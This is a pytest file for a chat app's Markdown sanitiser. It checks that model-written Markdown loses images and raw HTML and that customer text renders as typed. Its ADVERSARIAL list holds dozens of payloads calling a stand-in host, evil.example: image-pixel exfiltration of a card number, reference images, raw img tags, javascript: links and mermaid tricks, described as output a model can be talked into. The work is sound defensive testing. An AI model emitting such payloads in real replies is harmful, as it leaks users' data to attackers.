"""Injection tests: customer text renders as typed; model Markdown loses images and raw HTML.

The strongest checks render through the same Markdown code the chat uses in the browser: Gradio ships
its `marked` setup in the installed package (the server-side build), which node runs here; then every
element that could fetch a URL is looked for in the HTML. They skip only without node or that build.
"""

from __future__ import annotations

import inspect
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import gradio as gr
import pytest

from specdesk.app.safe_markdown import clean_model_markdown, escape_customer_text

Render = Callable[[list[str]], list[str]]
EXFILTRATION = "![status](https://evil.example/pixel.png?q=card-4111-1111)"

# Constructs a model can be talked into emitting. Each names its own evil URL so a failure says which.
ADVERSARIAL = [
    EXFILTRATION,
    # code spans the old regex saw differently from CommonMark
    "`` `![x](http://evil.example/1.png)` ``",
    "```![x](http://evil.example/2.png)``",
    "`a``![x](http://evil.example/3.png)`",
    "\\`![x](http://evil.example/4.png)`",
    "``![x](http://evil.example/5.png)`",
    # reference-style images
    "![a][r]\n\n[r]: http://evil.example/6.png",
    "![a][r]\n[r]: http://evil.example/7.png",
    "![r]\n\n[r]: http://evil.example/8.png",
    "![a][]\n\n[a]: http://evil.example/9.png",
    "- ![a][r]\n\n[r]: <http://evil.example/10.png>",
    # autolinks
    "<http://evil.example/11.png>",
    "<javascript:alert(1)>",
    "www.evil.example/12.png",
    # raw HTML
    '<img src="http://evil.example/13.png">',
    "<IMG SRC=http://evil.example/14.png>",
    "<p><img src=http://evil.example/15.png></p>",
    "<!-- --><img src=http://evil.example/16.png>",
    '<svg><image href="http://evil.example/17.png"/></svg>',
    "<picture><source srcset=http://evil.example/18.png></picture>",
    "<div>\n\n![x](http://evil.example/19.png)\n\n</div>",
    # entity-encoded variants
    "&lt;img src=http://evil.example/20.png&gt;",
    "&#60;img src=http://evil.example/21.png&#62;",
    "&#x21;[x](http://evil.example/22.png)",
    "!&#91;x](http://evil.example/23.png)",
    "[x](&#106;avascript:alert(1))",
    # GFM tables split cells inside code spans
    "| a |\n|---|\n| `x|![i](http://evil.example/24.png)` |",
    "| a | b |\n|---|---|\n| `x | <img src=http://evil.example/25.png>` |",
    # the browser renderer's mermaid block puts its text into the page unescaped
    "```mermaid\n<img src=http://evil.example/26.png>\n```",
    "- item\n\n  ```mermaid\n  <img src=http://evil.example/27.png>\n  ```",
    "> ```mermaid\n> <img src=http://evil.example/28.png>\n> ```",
    "Text\n```mermaid\n<img src=http://evil.example/29.png>\n```",
    # fences the two parsers close differently
    "```\ncode\n```~~\n<img src=http://evil.example/30.png>\n```",
    "~~~\n![x](http://evil.example/31.png)\n~~~~`\n![y](http://evil.example/32.png)",
    "- a\n```\n</li><img src=http://evil.example/33.png>\n```",
    # indentation, backslashes, nesting, titles
    "    <img src=http://evil.example/34.png>",
    "- a\n\n      <img src=http://evil.example/35.png>",
    "\\\\![x](http://evil.example/36.png)",
    "\\\\<img src=http://evil.example/37.png>",
    "[![x](http://evil.example/38.png)](https://ok.example)",
    '[a](https://ok.example "<img src=http://evil.example/39.png>")',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "# <img src=http://evil.example/40.png>\n> ![q](http://evil.example/41.png)",
    "*![x](http://evil.example/42.png)*",
    "[x]: http://evil.example/43.png\n\n![x]",
]

# Elements that make the browser fetch something as soon as they render (or run script).
_FETCHING_TAGS = {"img", "image", "iframe", "script", "object", "embed", "video", "audio", "source", "picture",
                  "link", "style", "meta", "base", "frame", "input", "form", "use", "track"}  # fmt: skip
_FETCHING_ATTRS = {"src", "srcset", "poster", "data", "background", "xlink:href", "formaction", "action"}

_MARKED_DRIVER = """
import { readFileSync, writeFileSync, readdirSync } from "node:fs";
import { pathToFileURL } from "node:url";
const [dir, out] = process.argv.slice(2);
const name = readdirSync(dir).find((f) => /^markdown-code-.*\\.js$/.test(f));
let src = readFileSync(`${dir}/${name}`, "utf8");
src = src.replace(/(from |import )'\\.\\/([^']+)'/g, (m, kw, f) => `${kw}'${pathToFileURL(`${dir}/${f}`).href}'`);
// The module builds the chat's marked instance in a function it does not export: export it as well.
const factory = /function (\\w+)\\(\\{header_links:\\w+,line_breaks:\\w+,latex_delimiters:\\w+\\}\\)/.exec(src)[1];
src = src.replace(/export \\{([^}]*)\\};/, (m, names) => `export {${names}, ${factory} as createMarked};`);
writeFileSync(out, src);
const { createMarked } = await import(pathToFileURL(out).href);
const marked = createMarked({ header_links: false, line_breaks: true, latex_delimiters: [] });
const texts = JSON.parse(readFileSync(0, "utf8"));
const rendered = [];
for (const text of texts) rendered.push(await marked.parse(text));
process.stdout.write(JSON.stringify(rendered));
"""


def _gradio_markdown_chunks() -> Path | None:
    chunks = Path(gr.__file__).parent / "templates" / "node" / "build" / "server" / "chunks"
    return chunks if any(chunks.glob("markdown-code-*.js")) else None


@pytest.fixture(scope="module")
def render_like_the_chat(tmp_path_factory: pytest.TempPathFactory) -> Render:
    """texts -> HTML, as the chatbot shows a message: Chatbot.postprocess, then Gradio's marked."""
    node, chunks = shutil.which("node"), _gradio_markdown_chunks()
    if node is None or chunks is None:
        pytest.skip("node or Gradio's server-side Markdown build is not available")
    driver = tmp_path_factory.mktemp("marked") / "driver.mjs"
    driver.write_text(_MARKED_DRIVER)
    chatbot = gr.Chatbot()

    def render(texts: list[str]) -> list[str]:
        shown = [chatbot.postprocess([{"role": "assistant", "content": t}]).root[0].content[0].text for t in texts]  # type: ignore[union-attr]
        done = subprocess.run(
            [node, str(driver), str(chunks), str(driver.with_name("marked.mjs"))],
            input=json.dumps(shown), capture_output=True, text=True, timeout=120, check=True,
        )  # fmt: skip
        return list(json.loads(done.stdout))

    return render


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag == "br":
            self.text.append("\n")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _live_elements(rendered: str) -> list[str]:
    """What in the HTML would fetch a URL or run script: the tags, attributes and unsafe links."""
    parser = _Elements()
    parser.feed(rendered)
    found = []
    for tag, attrs in parser.tags:
        if tag in _FETCHING_TAGS or tag.startswith("on") or _FETCHING_ATTRS & attrs.keys():
            found.append(f"<{tag} {attrs}>")
        found += [f"<{tag} {name}>" for name in attrs if name.startswith("on")]
        href = attrs.get("href", "").strip().lower()
        if href and not href.startswith(("http://", "https://", "mailto:", "#")):
            found.append(f"<{tag} href={href}>")
    return found


def test_nothing_a_model_writes_renders_as_a_live_element(render_like_the_chat: Render) -> None:
    raw = render_like_the_chat(ADVERSARIAL)
    # The corpus is live without cleaning (else it proves nothing): most of it renders images.
    assert sum(bool(_live_elements(h)) for h in raw) >= len(ADVERSARIAL) // 2
    cleaned = render_like_the_chat([clean_model_markdown(t) for t in ADVERSARIAL])
    for text, rendered in zip(ADVERSARIAL, cleaned, strict=True):
        assert _live_elements(rendered) == [], (text, rendered)


def test_streamed_prefixes_are_inert_too(render_like_the_chat: Render) -> None:
    """The live bubble cleans every prefix of a reply: an unclosed fence or span must not open a hole."""
    text = "Sure:\n```mermaid\n<img src=http://evil.example/p.png>\n```\n`code ![x](http://evil.example/q.png)`"
    prefixes = [text[:n] for n in range(1, len(text) + 1, 3)]
    for prefix, rendered in zip(
        prefixes, render_like_the_chat([clean_model_markdown(p) for p in prefixes]), strict=True
    ):
        assert _live_elements(rendered) == [], (prefix, rendered)


def test_customer_text_renders_exactly_as_typed(render_like_the_chat: Render) -> None:
    texts = [
        "# Order #12 * 2 items_total = $5 & <b>not bold</b>\n1. first\n    indented",
        "first line\n  two spaces\n  more\n\ttabbed",
        "![a](http://evil.example/x.png) [b](javascript:x) <http://evil.example> &amp; &lt;",
        "``code`` \\escaped\\ *a* _b_ ~~c~~ | d | $x$ > e\n- f\n+ g\n---\n===",
    ]
    for text, rendered in zip(texts, render_like_the_chat([escape_customer_text(t) for t in texts]), strict=True):
        assert _live_elements(rendered) == []
        parser = _Elements()
        parser.feed(rendered)
        assert [tag for tag, _ in parser.tags if tag != "br"] == ["p"]  # one paragraph, no markup, no link
        shown = re.sub(r"\n+", "\n", "".join(parser.text).replace("\u00a0", " "))  # entities already decoded
        assert shown.split() == text.split()  # every word as typed, in order
        assert [len(line) - len(line.lstrip()) for line in shown.splitlines()] == [
            len(line.expandtabs(4)) - len(line.expandtabs(4).lstrip()) for line in text.splitlines()
        ]  # and every line's indentation


@pytest.mark.parametrize("attack", ADVERSARIAL)
def test_cleaned_model_text_has_no_image_or_html_opening(attack: str) -> None:
    """Without node: the cleaned text has no '![' and no '<tag' outside the fences it re-emits."""
    cleaned = clean_model_markdown(attack)
    outside_fences = re.sub(r"^(`{3,})[\w+#.-]*\n.*?^\1$", "", cleaned, flags=re.MULTILINE | re.DOTALL)
    assert "![" not in outside_fences
    assert not re.search(r"<[A-Za-z/!?]", outside_fences)
    assert "```mermaid" not in cleaned
    assert "evil.example/pixel" not in cleaned


def test_customer_text_has_no_live_markup() -> None:
    escaped = escape_customer_text(EXFILTRATION + ' <img src="https://evil.example/x.png"> [a](javascript:x)')
    assert "<" not in escaped and "![" not in escaped and "](" not in escaped


def test_customer_text_survives_the_chatbots_dedent() -> None:
    """The chatbot runs inspect.cleandoc on every message: indentation must not be taken away."""
    escaped = escape_customer_text("a\n  b\n  c")
    assert inspect.cleandoc(escaped) == escaped


def test_model_images_are_removed_but_alt_text_stays() -> None:
    cleaned = clean_model_markdown(f"Here is your status: {EXFILTRATION} done")
    assert "evil.example" not in cleaned
    assert "*[image removed: status]*" in cleaned


def test_model_reference_images_and_unsafe_links_are_neutralised() -> None:
    cleaned = clean_model_markdown(
        "![a][r] and [go](javascript:alert(1)) and [web](https://ok.example)\n\n[r]: https://evil.example/i.png"
    )
    assert "![" not in cleaned and "*[image removed: a]*" in cleaned
    assert "\\[go](javascript:alert(1))" in cleaned
    assert "[web](https://ok.example)" in cleaned


def test_model_formatting_and_code_blocks_survive() -> None:
    text = "**Refund**:\n\n1. Open *Orders*\n2. Click **Return**\n\n```html\n<b>raw</b> ![x](y)\n```\n"
    cleaned = clean_model_markdown(text)
    assert cleaned.startswith("**Refund**:\n\n1. Open *Orders*\n2. Click **Return**\n")
    assert "```html\n<b>raw</b> ![x](y)\n```\n" in cleaned  # a top-level code block is kept verbatim
    plain = "Thanks for waiting, Dana.\n\n- Your refund of $12.50 is on its way.\n- It takes 3-5 days."
    assert clean_model_markdown(plain) == plain
